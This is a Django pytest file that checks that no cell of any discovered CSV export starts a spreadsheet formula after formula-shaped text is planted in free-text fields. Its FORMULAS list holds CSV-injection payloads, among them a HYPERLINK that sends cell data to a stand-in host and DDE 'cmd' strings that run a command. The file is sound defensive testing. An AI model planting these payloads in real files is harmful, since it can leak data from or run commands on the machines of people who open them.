"""Every CSV export of the service, found by walking the URL conf and the download links
of each page, opened after formula-shaped text has been typed into every free-text field
of the data: no cell of any export may start a spreadsheet formula.

The exports are discovered (a route answering `?format=csv` with text/csv, and every
`format=csv` link on a page), so that an export added tomorrow is walked too."""

import csv
import html
import io
import itertools
import re

import pytest
from django.apps import apps
from django.db import models
from django.utils import timezone

from clients.models import AccessLog
from common.csvexport import FORMULA_STARTS
from metrics.tests.dataset import PERIOD_QUERY, build_dataset
from metrics.tests.ips_dataset import build_ips_dataset
from tests.routes import page_routes

pytestmark = pytest.mark.django_db

OUR_APPS = ("coordination", "clients", "networks", "serviceplans", "coaching", "metrics")
# Free text a person could type, each shaped as a formula for Excel or LibreOffice.
FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1;"Klikkaa")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
)
# Fields whose values the code depends on (or that a person does not type).
NOT_FREE_TEXT = {"password", "personal_identity_code", "path", "object_kind"}
CSV_LINK = re.compile(r'href="([^"]*format=csv[^"]*)"')


def free_text_fields(model) -> list[models.Field]:
    fields = []
    for field in model._meta.concrete_fields:
        if not isinstance(field, models.CharField | models.TextField):
            continue
        if field.name in NOT_FREE_TEXT or isinstance(field, models.EmailField):
            continue
        # A choice is not typed freely – except where it once was, or a bad import lands.
        if field.choices and field.name != "municipality":
            continue
        fields.append(field)
    return fields


def plant_formulas() -> int:
    """Overwrite every free-text field of every row of our apps with a formula (bypassing
    the forms: what matters is what reaches an export, whatever let it in)."""
    formulas = itertools.cycle(FORMULAS)
    planted = 0
    for model in apps.get_models():
        if model._meta.app_label not in OUR_APPS or model._meta.proxy:
            continue
        fields = free_text_fields(model)
        if not fields:
            continue
        for pk in model._default_manager.values_list("pk", flat=True):
            values = {}
            for field in fields:
                value = next(formulas)
                if field.unique:  # short enough that the row's id survives the cut
                    value = f"{value[0]}{pk}+A1"
                values[field.name] = value[: field.max_length] if field.max_length else value
            model._default_manager.filter(pk=pk).update(**values)
            planted += 1
    return planted


def body(response) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    text = content.decode("utf-8")
    assert text.startswith("\ufeff"), "Excel needs the byte-order mark"
    return text[1:]


def is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return False
    return True


def starts_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(FORMULA_STARTS) and not is_number(cell)


def discover_exports(client) -> dict[str, object]:
    """Every URL (without object ids) that answers as CSV: the page itself with
    `?format=csv`, and each download link the page shows."""
    exports = {}
    for route in page_routes():
        if route.takes_object_id or "logout" in (route.name or ""):
            continue
        page_url = route.url()
        candidates = [f"{page_url}{PERIOD_QUERY}&format=csv"]
        page = client.get(page_url + PERIOD_QUERY)
        if page.status_code == 200 and "html" in page.get("Content-Type", ""):
            for href in CSV_LINK.findall(page.content.decode()):
                href = html.unescape(href)
                candidates.append(page_url + href if href.startswith("?") else href)
        for url in candidates:
            if url in exports:
                continue
            response = client.get(url)
            if response.status_code == 200 and response["Content-Type"].startswith("text/csv"):
                exports[url] = response
    return exports


@pytest.fixture
def everything(alice, kaisa, kela, hub, ylva, eero):
    build_dataset(alice, kaisa, kela)
    ips = build_ips_dataset(alice)
    for person in ips["people"].values():
        AccessLog.objects.create(
            user=alice, client=person, action="view", basis="consultation",
            at=timezone.now(), path=f"/clients/{person.uuid}/", object_kind="client",
        )  # fmt: skip
    assert plant_formulas() > 20


@pytest.mark.parametrize("persona", ["ylva", "eero", "kaisa"], indirect=True)
def test_no_export_cell_starts_a_formula(client, persona, everything):
    client.force_login(persona)
    exports = discover_exports(client)
    assert exports, "the walk found no CSV export: is the discovery broken?"
    neutralised = 0
    for url, response in exports.items():
        for row in csv.reader(io.StringIO(body(response)), delimiter=";"):
            for cell in row:
                assert not starts_formula(cell), f"{url}: {cell!r}"
                neutralised += cell.startswith("'")
    if persona.username == "ylva":
        assert any("access-log" in r["Content-Disposition"] for r in exports.values())
        # The names typed as formulas did reach the log export, as plain text.
        assert neutralised
    else:
        assert any("metrics-" in r["Content-Disposition"] for r in exports.values())


def test_the_walk_finds_every_metrics_table(client, eero, everything):
    """One CSV per table of the dashboard, the access log for the administrator."""
    from metrics.forms import MetricsFilterForm
    from metrics.summary import build_summary

    client.force_login(eero)
    form = MetricsFilterForm({"from": "2026-01-01", "to": "2026-06-30"})
    assert form.is_valid()
    keys = {table["key"] for table in build_summary(form.filters())["tables"]}
    found = discover_exports(client)
    assert {key for key in keys if any(f"table={key}" in url for url in found)} == keys
